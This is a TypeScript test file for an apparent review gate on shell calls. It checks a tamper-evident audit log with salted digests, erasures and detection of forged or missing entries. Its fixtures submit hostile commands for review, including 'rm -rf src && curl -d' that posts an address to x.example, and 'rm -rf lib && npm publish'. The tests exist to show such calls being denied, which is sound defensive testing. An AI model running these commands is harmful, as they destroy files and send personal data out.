import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { expect, onTestFinished, test } from 'vitest'
import { auditEntryOf } from '../../src/people/audit/parts/audit-entry-of.ts'
import type { StoredEntry } from '../../src/people/audit/link-entry.ts'
import { sha256 } from '../../src/people/audit/sha256.ts'
import { canonicalJson } from '../../src/people/audit/canonical-json.ts'
import { openDatabase } from '../../src/gate/store/open-database.ts'
import { openPeopleGate } from '../people/open-people-gate.ts'
import { addReviewer } from '../people/review-answers.ts'

const address = '12 Rose Lane, Springfield'

/** A gate on a file with a call that was denied with a reason, and a way to the file past the gate. */
async function world() {
  const folder = mkdtempSync(join(tmpdir(), 'countersign-sealed-'))
  onTestFinished(() => rmSync(folder, { recursive: true, force: true }))
  const file = join(folder, 'state.db')
  const people = openPeopleGate({ file })
  onTestFinished(() => people.gate.close())
  const alice = await addReviewer(people)
  const { reviewId = '' } = await people.shell(`rm -rf src && curl -d '${address}' https://x.example`)
  await people.gate.reviews.answer({ reviewId, who: alice, approve: false, reason: `not to ${address}` })
  const past = (work: (database: ReturnType<typeof openDatabase>) => void) => {
    const database = openDatabase(file, 'FULL')
    work(database)
    database.close()
  }
  return { ...people, alice, reviewId, past }
}

const problems = async ({ gate }: Pick<Awaited<ReturnType<typeof world>>, 'gate'>) =>
  (await gate.verify()).problems

test('what people say and what calls hold stands in no hashed body, and in every answer', async () => {
  const { gate, store, reviewId } = await world()
  const entries = store.entries(0, 100)
  expect(entries.some(({ body }) => body.includes('Rose Lane'))).toBe(false)
  expect(entries.filter(({ openings }) => openings?.includes('Rose Lane'))).toHaveLength(2)
  const [logged] = await gate.decisions({})
  expect(JSON.stringify(logged?.call.arguments)).toContain(address)
  expect(logged?.missing).toBeUndefined()
  expect((await gate.reviews.show(reviewId)).review.votes[0]?.reason).toContain(address)
  expect(await problems({ gate })).toEqual([])
})

test('the call’s own digest, which anybody could try calls against, is in no hashed body', async () => {
  const { gate, store } = await world()
  const [logged] = await gate.decisions({})
  const digest = logged?.decision.callDigest ?? ''
  expect(digest).toMatch(/^[0-9a-f]{64}$/)
  for (const { body } of store.entries(0, 100)) expect(body).not.toContain(digest)
})

test('two calls that are alike have no digest in common', async () => {
  const { shell, store } = openPeopleGate()
  await shell('ls')
  await shell('ls')
  const [first = [], second] = store
    .entries(0, 2)
    .map(({ body }): readonly string[] => body.match(/"[\w-]{43}"/g) ?? [])
  expect(first.length).toBeGreaterThan(4)
  expect(first.filter(digest => second?.includes(digest))).toEqual([])
})

test('an entry that leaves the store can be checked by anybody: body against hash, openings against digests', async () => {
  const { gate } = await world()
  for await (const { seq, at, kind, body, prev, hash, openings = {} } of gate.entries()) {
    expect(sha256(canonicalJson({ at, body, kind, prev, seq }))).toBe(hash)
    const raw = canonicalJson(body)
    for (const [pointer, [salt, value]] of Object.entries(openings)) {
      const text = canonicalJson([salt, pointer.split('/').at(-1) ?? '', value])
      const { createHash } = await import('node:crypto')
      const digest = createHash('sha256').update(Buffer.from(text).toString('base64url')).digest('base64url')
      expect(raw).toContain(`"${digest}"`)
      expect(Buffer.from(salt, 'base64url')).toHaveLength(16)
    }
  }
})

test('any bit of an opening that is changed is found, and is shown nowhere', async () => {
  const { gate, store, past } = await world()
  const seq = (await gate.decisions({}))[0]?.entry.seq ?? 0
  const stored = Buffer.from(store.entries(seq - 1, 1)[0]?.openings ?? '')
  const step = Math.max(1, Math.floor(stored.length / 150))
  for (let at = 0; at < stored.length; at += step) {
    const changed = Buffer.from(stored)
    changed[at] = (stored[at] ?? 0) ^ (1 << (at % 7))
    past(database =>
      database.prepare('UPDATE openings SET body = ? WHERE seq = ?').run(changed.toString(), seq),
    )
    expect((await gate.verify()).ok, `byte ${at} of ${stored.length}`).toBe(false)
    expect(() => store.decision(String(seq))).not.toThrow()
  }
  past(database => database.prepare('UPDATE openings SET body = ? WHERE seq = ?').run(stored.toString(), seq))
  expect(await problems({ gate })).toEqual([])
})

test('an opening that was swapped for another is found, and the call is not shown as that', async () => {
  const { gate, store, past } = await world()
  const seq = (await gate.decisions({}))[0]?.entry.seq ?? 0
  const openings = store.entries(seq - 1, 1)[0]?.openings ?? ''
  const forged = openings.replaceAll(address, '1 Harmless Street')
  past(database => database.prepare('UPDATE openings SET body = ? WHERE seq = ?').run(forged, seq))
  expect(await problems({ gate })).toContainEqual(
    `entry ${seq} was changed: /call/arguments is not what its digest says`,
  )
  const logged = await gate.decision(String(seq))
  expect(JSON.stringify(logged.call)).not.toContain('Harmless')
  expect(logged.missing?.['/call/arguments']).toContain('countersign audit verify')
})

test('openings that are gone without an erasure are found and named, and every reader still answers', async () => {
  const { gate, store, reviewId, past } = await world()
  const seq = (await gate.decisions({}))[0]?.entry.seq ?? 0
  past(database => database.exec('DELETE FROM openings'))
  expect(await problems({ gate })).toContainEqual(
    `entry ${seq} lacks a part of /call, and no entry says who erased it`,
  )
  const logged = await gate.decision(String(seq))
  expect(logged.call.arguments).toEqual({ '(erased)': expect.stringContaining('the log names nobody') })
  expect((await gate.reviews.show(reviewId)).call.arguments).toEqual(logged.call.arguments)
  expect((await gate.replay(logged.decision.id)).caveats[0]).toContain('can’t be judged again')
  expect(await gate.decisions({ search: 'rose' })).toBeDefined()
  expect((await gate.overview()).denied + (await gate.overview()).queued).toBe(1)
  for (const entry of store.entries(0, 100)) expect(auditEntryOf(entry).openings).toBeUndefined()
})

test('parts of one entry are no parts of another', async () => {
  const { gate, shell, store, past } = await world()
  await shell('ls -la')
  const last = store.head().seq
  const other = store.entries(last - 1, 1)[0]?.openings ?? ''
  const seq = (await gate.decisions({ limit: 2 }))[1]?.entry.seq ?? 0
  past(database => database.prepare('UPDATE openings SET body = ? WHERE seq = ?').run(other, seq))
  expect((await problems({ gate })).filter(one => one.startsWith(`entry ${seq} `)).length).toBeGreaterThan(4)
})

test('the page that reviewers saw is sealed with the decision that opened the review', async () => {
  const { gate, store, reviewId, past } = await world()
  const seq = (await gate.decisions({}))[0]?.entry.seq ?? 0
  expect(store.entries(seq - 1, 1)[0]?.openings).toContain('\n/page [')
  const stored = store.people.snapshot(reviewId)
  expect(stored?.reviewId).toBe(reviewId)
  past(database =>
    database.exec(
      `UPDATE openings SET body = replace(body, '"readingSeconds":', '"readingSeconds":9') WHERE seq = ${seq}`,
    ),
  )
  expect(await problems({ gate })).toContainEqual(
    `entry ${seq} was changed: /page is not what its digest says`,
  )
  expect(store.people.snapshot(reviewId)).toBeUndefined()
})

test('nobody says yes to a call that the log does not hold any more; a no is taken', async () => {
  const { gate, shell, alice, past } = await world()
  const { reviewId = '' } = await shell('rm -rf lib && npm publish')
  const sheet = await gate.reviews.begin(reviewId, alice)
  past(database => database.exec('DELETE FROM openings'))
  const yes = { reviewId, who: alice, approve: true, sheetId: sheet.id }
  const refusal = { code: 'conflict', message: expect.stringContaining('nobody can say yes to it') }
  await expect(gate.reviews.answer(yes)).rejects.toMatchObject(refusal)
  await expect(gate.reviews.begin(reviewId, { ...alice, reviewer: 'alice' })).resolves.toBeDefined()
  expect((await gate.reviews.answer({ ...yes, approve: false })).review.state).toBe('denied')
})

test('a part that need not be there and is gone beside an erased one is told of', async () => {
  const { gate, past } = await world()
  const seq = (await gate.decisions({}))[0]?.entry.seq ?? 0
  past(database => {
    const stored = database.prepare('SELECT body FROM openings WHERE seq = ?').get(seq) as { body: string }
    const lines = stored.body.split('\n').filter(line => !line.startsWith('/decision/assessment/shape'))
    expect(lines.length).toBeLessThan(stored.body.split('\n').length)
    database.prepare('UPDATE openings SET body = ? WHERE seq = ?').run(lines.join('\n'), seq)
  })
  expect((await gate.decision(String(seq))).missing).toEqual({ '': expect.stringContaining('audit verify') })
  expect(await problems({ gate })).toEqual([
    `entry ${seq} lacks a part of /decision/assessment, and no entry says who erased it`,
  ])
})

test('a row that says who erased a part is held against the log, and says nothing where the log says otherwise', async () => {
  const { gate, shell, past, alice } = await world()
  const who = { ...alice, pin: 'sunflower-42' }
  const wish = { pointer: '/call/arguments', reason: 'asked for' }
  const seqOf = async (command: string) => (await gate.decision((await shell(command)).id)).entry.seq
  const [one, two] = [await seqOf('ls alpha'), await seqOf('ls beta')]
  const first = await gate.erase({ ...wish, entry: one }, who)
  const second = await gate.erase({ ...wish, entry: two, reason: 'another' }, who)
  const stored = (await gate.decision(String(one))).missing
  past(database =>
    database.exec(
      `INSERT INTO erasures VALUES (${one}, '/call/session', 'x', ${first.erasedBy}), (1, '/reason', 'x', 1)`,
    ),
  )
  expect((await gate.decision(String(one))).missing).toEqual(stored)
  expect(await problems({ gate })).toEqual([])
  for (const change of [`UPDATE erasures SET entry = ${second.erasedBy}`, 'DELETE FROM erasures']) {
    past(database => database.exec(`${change} WHERE seq = ${one}`))
    expect((await gate.decision(String(one))).missing?.['/call/arguments']).toContain('names nobody')
    expect(await problems({ gate })).toContainEqual(
      `the state does not say that /call/arguments of entry ${one} was erased, and the log does`,
    )
  }
})

test('a line among the openings that is none stops no reader', async () => {
  const { gate, store, past } = await world()
  const seq = (await gate.decisions({}))[0]?.entry.seq ?? 0
  const whole = auditEntryOf(store.entries(seq - 1, 1)[0] as StoredEntry).openings
  for (const line of ['', '/reason', '/reason {', '/x ["salt","x",'])
    past(database => {
      database.prepare('UPDATE openings SET body = body || ? || char(10) WHERE seq = ?').run(line, seq)
    })
  expect(auditEntryOf(store.entries(seq - 1, 1)[0] as StoredEntry).openings).toEqual(whole)
  expect((await gate.verify()).ok).toBe(false)
})
